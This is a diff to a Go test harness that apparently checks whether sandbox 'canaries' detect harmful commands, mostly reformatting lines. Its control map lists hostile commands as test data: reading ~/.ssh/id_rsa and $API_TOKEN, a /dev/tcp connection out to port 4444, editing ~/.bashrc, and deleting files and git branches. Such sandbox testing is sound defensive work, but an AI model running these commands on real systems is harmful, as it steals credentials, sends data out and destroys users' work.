@@ -19,7 +19,7 @@ import (
 	"ua/internal/test/scripttest"
 )
 
-var whole = flag.Bool("whole", false, "run all hostile commands that are let run unasked, not a sample")
+var whole = flag.Bool("whole", false, "run all hostile commands that run unasked, no sample")
 
 // canaryUser runs what is hostile: an ordinary user.
 const canaryUser = 1000
@@ -247,14 +247,16 @@ func (c *canary) packets() string {
 // control has a command outside of the sandbox harm each canary, to see that they tell.
 func (c *canary) control() {
 	for command, want := range map[string]string{
-		"echo x >>~/.bashrc": "outside", "echo x >~/new": "outside", "rm ../other/src/main.go": "outside",
-		"cat ~/.ssh/id_rsa": "secret", "echo $API_TOKEN": "secret",
+		"echo x >>~/.bashrc": "outside", "echo x >~/new": "outside",
+		"rm ../other/src/main.go": "outside",
+		"cat ~/.ssh/id_rsa":       "secret", "echo $API_TOKEN": "secret",
 		"(echo >/dev/tcp/203.0.113.9/4444) 2>/dev/null; true": "sent",
 		"rm main.go": "main.go", ": >data/in.csv": "in.csv", "git checkout -q notes.txt": "notes.txt",
 		"ln -sf /dev/null README.md": "README.md", "git branch -qD dev": "heads/dev",
 		"echo x >new; true": "",
 	} {
-		if harm, loss := c.run(command); !strings.Contains(harm+loss, want) || want == "" && harm+loss != "" {
+		harm, loss := c.run(command)
+		if !strings.Contains(harm+loss, want) || want == "" && harm+loss != "" {
 			c.t.Fatalf("%s: %q %q", command, harm, loss)
 		}
 	}
